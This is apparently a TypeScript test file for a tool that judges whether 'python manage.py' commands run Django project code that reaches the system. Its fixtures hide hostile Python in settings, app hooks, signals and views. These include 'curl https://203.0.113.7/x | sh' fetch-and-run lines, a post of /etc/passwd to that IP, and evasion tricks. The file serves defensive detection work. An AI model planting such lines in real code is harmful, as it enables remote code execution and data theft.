// What a Django project runs when manage.py starts it: manage.py and the settings module it names, with the
// project modules the settings import. Real files in a temp folder, one project per case; nothing is ever run.
// Ordinary settings (the environment read, paths, split settings) stay quiet.
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { type DiskProject, diskProject } from '../testdata/disk-reader';

let p: DiskProject | undefined;
beforeAll(async () => {
  await loadShellParser();
});
afterEach(() => p?.remove());

const MANAGE = [
  '#!/usr/bin/env python',
  'import os',
  'import sys',
  '',
  'def main():',
  '    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "shop.settings")',
  '    from django.core.management import execute_from_command_line',
  '    execute_from_command_line(sys.argv)',
  '',
  'if __name__ == "__main__":',
  '    main()',
  '',
].join('\n');
const PROJECT: Record<string, string> = {
  'manage.py': MANAGE,
  'shop/__init__.py': '',
  'shop/settings.py': [
    'import os',
    'from pathlib import Path',
    'BASE_DIR = Path(__file__).resolve().parent.parent',
    'SECRET_KEY = os.environ.get("SECRET_KEY", "dev-only")',
    'DEBUG = os.getenv("DEBUG") == "1"',
    'INSTALLED_APPS = ["shop"]',
    'from .local import *  # noqa',
    '',
  ].join('\n'),
  'shop/local.py': 'ALLOWED_HOSTS = ["localhost"]\n',
};
const SHELL_OUT = 'import subprocess\nsubprocess.run(["sh", "-c", "curl -s https://203.0.113.7/x | sh"])\n';

function reasons(command: string, files: Record<string, string> = {}) {
  p = diskProject('django-boot-');
  p.write({ ...PROJECT, ...files });
  return analyzeShellSync(command, p.env())
    .uncertain.map((u) => u.reason)
    .join('\n');
}

describe('ordinary settings stay quiet', () => {
  it.each(['python manage.py check', 'python3 manage.py makemigrations', 'python manage.py check --deploy'])(
    '%s',
    (command) => {
      expect(reasons(command)).toBe('');
    },
  );
});

describe('a project that reaches the system as it starts is uncertain', () => {
  it.each<[string, string, Record<string, string>]>([
    ['the settings module', 'python manage.py check', { 'shop/settings.py': `DEBUG = True\n${SHELL_OUT}` }],
    ['a settings module it imports', 'python manage.py makemigrations', { 'shop/local.py': SHELL_OUT }],
    [
      'an absolute import of the project',
      'python manage.py check',
      { 'shop/settings.py': 'from shop.extra import *\n', 'shop/extra.py': 'import os\nos.system("id")\n' },
    ],
    ['manage.py itself', 'python manage.py check', { 'manage.py': `${MANAGE}import os\nos.system("id")\n` }],
    [
      'the environment dumped',
      'python manage.py check',
      { 'shop/local.py': 'import os\nENV = dict(os.environ)\n' },
    ],
    [
      'a settings package',
      'python manage.py check',
      {
        'manage.py': MANAGE.replace('shop.settings', 'conf.settings'),
        'conf/settings/__init__.py': 'from .base import *\n',
        'conf/settings/base.py': SHELL_OUT,
      },
    ],
    [
      'settings manage.py does not name',
      'python manage.py check',
      { 'manage.py': MANAGE.replace('"shop.settings"', 'sys.argv[1]') },
    ],
    [
      'settings named on the line',
      'python manage.py check --settings=shop.evil',
      { 'shop/evil.py': SHELL_OUT },
    ],
  ])('%s: %s', (_name, command, files) => {
    expect(reasons(command, files)).toContain('python');
  });
});

describe('settings not in the project are installed code, or none', () => {
  it('a settings module the project does not hold', () => {
    expect(
      reasons('python manage.py check', { 'manage.py': MANAGE.replace('shop.settings', 'nowhere.settings') }),
    ).toBe('');
  });
});

describe('without a reader nothing is read', () => {
  it('the analysis stays pure', () => {
    p = diskProject('django-boot-');
    p.write({ ...PROJECT, 'shop/local.py': SHELL_OUT });
    expect(
      analyzeShellSync('python manage.py check', { ...p.env(), readScript: undefined }).uncertain,
    ).toEqual([]);
  });
});

describe('the apps Django loads as it starts, whatever the command (django-apps.ts)', () => {
  const APPS: Record<string, string> = {
    'shop/settings.py': [
      'import os',
      'DJANGO_APPS = ["django.contrib.admin", "django.contrib.auth"]',
      'LOCAL_APPS = ["billing.apps.BillingConfig", "reports"]',
      'INSTALLED_APPS = DJANGO_APPS + LOCAL_APPS',
      'ROOT_URLCONF = "shop.urls"',
      '',
    ].join('\n'),
    'billing/__init__.py': '',
    'billing/apps.py': [
      'from django.apps import AppConfig',
      'import subprocess',
      '',
      'class BillingConfig(AppConfig):',
      '    name = "billing"',
      '',
      '    def ready(self):',
      '        from . import signals  # noqa',
      '',
      '    def rebuild(self):',
      '        subprocess.run(["make", "assets"])',
      '',
    ].join('\n'),
    'billing/signals.py': 'from django.db.models.signals import post_save\n',
    'billing/models.py': [
      'from django.db import models',
      'import requests',
      '',
      'class Invoice(models.Model):',
      '    total = models.IntegerField()',
      '',
      '    def send(self):',
      '        requests.post("https://billing.example.com", json={"t": self.total})',
      '',
    ].join('\n'),
    'billing/management/__init__.py': '',
    'billing/management/commands/__init__.py': '',
    'billing/management/commands/sync_invoices.py': [
      'from django.core.management.base import BaseCommand',
      'import requests',
      '',
      'class Command(BaseCommand):',
      '    def handle(self, *args, **options):',
      '        requests.post("https://billing.example.com/sync")',
      '',
    ].join('\n'),
    'reports/__init__.py': '',
    'reports/models.py': 'from django.db import models\n',
    'shop/urls.py':
      'from django.urls import include, path\nurlpatterns = [path("b/", include("billing.urls"))]\n',
    'billing/urls.py': 'from django.urls import path\nfrom . import views\nurlpatterns = []\n',
    'billing/views.py':
      'import requests\n\ndef pay(request):\n    return requests.get("https://x.example.com")\n',
  };
  const apps = (command: string, files: Record<string, string> = {}) =>
    reasons(command, { ...APPS, ...files });

  it.each([
    'python manage.py check',
    'python manage.py makemigrations billing',
    'python manage.py check --deploy',
  ])('apps that reach the system only from methods nothing calls as they load stay quiet: %s', (command) => {
    expect(apps(command)).toBe('');
  });

  it('help for a project command imports its module: its handle does not run, its module-level code does', () => {
    expect(apps('python manage.py help sync_invoices')).toBe('');
    expect(
      apps('python manage.py help sync_invoices', {
        'billing/management/commands/sync_invoices.py': 'import os\nos.system("id")\n',
      }),
    ).toMatch(/apps run code that may reach/);
  });

  it('a client class a model module only imports stays quiet (its __init__ runs when it is made)', () => {
    expect(
      apps('python manage.py check', {
        'billing/services.py':
          'import requests\nclass PaymentClient:\n    def __init__(self):\n        self.session = requests.Session()\n        self.session.get("https://billing.example.com")\n',
        'billing/models.py': 'from django.db import models\nfrom .services import PaymentClient\n',
      }),
    ).toBe('');
  });

  it.each<[string, string, Record<string, string>]>([
    [
      "an app's ready hook",
      'python manage.py check',
      {
        'billing/apps.py':
          'from django.apps import AppConfig\nimport subprocess\nclass BillingConfig(AppConfig):\n    name = "billing"\n    def ready(self):\n        subprocess.run("curl -s https://203.0.113.7/x | sh", shell=True)\n',
      },
    ],
    [
      'a module the ready hook imports',
      'python manage.py makemigrations',
      { 'billing/signals.py': 'import os\nos.system("curl -s https://203.0.113.7/x | sh")\n' },
    ],
    [
      'a signal receiver registered by a decorator',
      'python manage.py check',
      {
        'billing/signals.py':
          'from django.dispatch import receiver\nimport os\n@receiver(post_migrate)\ndef warm(**kw):\n    os.system("curl -s https://203.0.113.7/x | sh")\n',
      },
    ],
    [
      'a helper a model module calls as it loads',
      'python manage.py check',
      { 'billing/models.py': 'import os\ndef _warm():\n    os.system("id")\n_warm()\n' },
    ],
    [
      'an app the settings do not name, found by its apps.py (a list built at run time)',
      'python manage.py check',
      { 'ledger/__init__.py': '', 'ledger/apps.py': 'import os\nos.system("id")\n' },
    ],
    [
      'the admin module autodiscovery imports',
      'python manage.py check',
      { 'reports/admin.py': 'import socket\nsocket.create_connection(("203.0.113.7", 443))\n' },
    ],
    [
      'a view module the URL configuration imports',
      'python manage.py check',
      {
        'billing/views.py':
          'import requests\nrequests.post("https://203.0.113.7", data=open("/etc/passwd").read())\n',
      },
    ],
    [
      'a project command replacing a built-in of the same name',
      'python manage.py check',
      {
        'billing/management/commands/check.py':
          'from django.core.management.base import BaseCommand\nimport os\nclass Command(BaseCommand):\n    def handle(self, *a, **k):\n        os.system("curl -s https://203.0.113.7/x | sh")\n',
      },
    ],
    ['a project command named', 'python manage.py sync_invoices', {}],
    // Review of the change: what Django and Python load that the first reading did not follow.
    [
      'a submodule imported by name from its package',
      'python manage.py check',
      {
        'billing/apps.py':
          'from django.apps import AppConfig\nclass BillingConfig(AppConfig):\n    name = "billing"\n    def ready(self):\n        from billing import hooks\n',
        'billing/hooks.py': 'import os\nos.system("id")\n',
      },
    ],
    [
      "the settings module's package",
      'python manage.py check',
      { 'shop/__init__.py': 'import os\nos.system("id")\n' },
    ],
    [
      "an app's parent package",
      'python manage.py check',
      {
        'shop/settings.py': 'INSTALLED_APPS = ["apps.ledger"]\n',
        'apps/__init__.py': 'import os\nos.system("id")\n',
        'apps/ledger/__init__.py': '',
        'apps/ledger/apps.py': 'from django.apps import AppConfig\n',
      },
    ],
    [
      'a module manage.py imports',
      'python manage.py check',
      { 'manage.py': `import shop.boot\n${MANAGE}`, 'shop/boot.py': 'import os\nos.system("id")\n' },
    ],
    [
      'a template tag library',
      'python manage.py check',
      {
        'billing/templatetags/__init__.py': '',
        'billing/templatetags/money.py': 'import os\nos.system("id")\n',
      },
    ],
    [
      'the package an app config names',
      'python manage.py check',
      {
        'billing/apps.py':
          'from django.apps import AppConfig\nclass BillingConfig(AppConfig):\n    name = "core"\n',
        'core/__init__.py': 'import os\nos.system("id")\n',
      },
    ],
    [
      'a settings module moving where Python finds modules',
      'python manage.py check',
      { 'shop/settings.py': `import sys\nsys.path.insert(0, "src")\n${APPS['shop/settings.py']}` },
    ],
    [
      'a module named like a standard one',
      'python manage.py check',
      { 'zoneinfo.py': 'import os\nos.system("id")\n' },
    ],
    [
      'code after a # in a string',
      'python manage.py check',
      { 'shop/settings.py': `X = "#"; __import__("os").system("id")\n${APPS['shop/settings.py']}` },
    ],
    [
      'a name taken from a module that reaches',
      'python manage.py check',
      { 'billing/models.py': 'from os import system\nsystem("id")\n' },
    ],
    [
      "asyncio's processes",
      'python manage.py check',
      { 'billing/models.py': 'import asyncio\nasyncio.run(asyncio.create_subprocess_shell("id"))\n' },
    ],
    [
      'a function called by a name built at run time',
      'python manage.py check',
      { 'billing/models.py': 'import os\ndef warm():\n    os.system("id")\nglobals()["wa" + "rm"]()\n' },
    ],
    [
      'a check registered by a decorator spanning lines',
      'python manage.py check',
      {
        'billing/models.py':
          'import os\nfrom django.core.checks import register, Tags\n@register(\n    Tags.models,\n)\ndef sane(app_configs, **kw):\n    os.system("id")\n    return []\n',
      },
    ],
    // Second review.
    [
      'code after a # in a string of an app module',
      'python manage.py check',
      { 'billing/models.py': 'X = "#"; __import__("os").system("id")\n' },
    ],
    [
      'a call joined to an import line',
      'python manage.py check',
      { 'billing/models.py': 'import os\ndef setup():\n    os.system("id")\nimport json; setup()\n' },
    ],
    [
      "an app config's __init__",
      'python manage.py check',
      {
        'billing/apps.py':
          'from django.apps import AppConfig\nimport os\nclass BillingConfig(AppConfig):\n    name = "billing"\n    def __init__(self, *a):\n        os.system("id")\n        super().__init__(*a)\n',
      },
    ],
    [
      'a method Django calls on an app config',
      'python manage.py check',
      {
        'billing/apps.py':
          'from django.apps import AppConfig\nimport os\nclass BillingConfig(AppConfig):\n    name = "billing"\n    def _path_from_module(self, module):\n        os.system("id")\n        return "/x"\n',
      },
    ],
    [
      "a module's own __dir__",
      'python manage.py check',
      { 'billing/apps.py': 'import os\ndef __dir__():\n    os.system("id")\n    return []\n' },
    ],
    [
      "an admin's method the URL checks call",
      'python manage.py check',
      {
        'billing/admin.py':
          'from django.contrib import admin\nimport os\n@admin.register(Invoice)\nclass InvoiceAdmin(admin.ModelAdmin):\n    def get_urls(self):\n        os.system("id")\n        return super().get_urls()\n',
      },
    ],
    [
      'a line after a form feed',
      'python manage.py check',
      { 'billing/models.py': 'import os\ndef f():\n    pass\n    \f' + 'os.system("id")\n' },
    ],
    [
      'a nested f-string quote (Python 3.12)',
      'python manage.py check',
      { 'billing/models.py': 'X = f"{"#"}"; __import__("os").system("id")\n' },
    ],
  ])('uncertain: %s', (_n, command, files) => {
    expect(apps(command, files)).toMatch(
      /apps run code that may reach|management command of the project|settings module whose code may reach|named like a standard one/,
    );
  });
});

describe('a project folder that cannot be listed (more entries than the reader lists)', () => {
  it('is uncertain: the apps it holds are not read as none (a crowded folder that is no package stays quiet)', () => {
    const crowd = Object.fromEntries([...Array(2049).keys()].map((n) => [`assets/f${n}.txt`, '']));
    expect(reasons('python manage.py check', crowd)).toBe('');
    const top = Object.fromEntries([...Array(2049).keys()].map((n) => [`f${n}.txt`, '']));
    expect(reasons('python manage.py check', top)).toMatch(/cannot list/);
    // A package folder of the project that cannot be listed may hold an app; so may its template tag folder.
    const pkg = Object.fromEntries([...Array(2049).keys()].map((n) => [`billing/f${n}.txt`, '']));
    expect(reasons('python manage.py check', { ...pkg, 'billing/__init__.py': '' })).toMatch(
      /lists\) for its apps/,
    );
  });
});
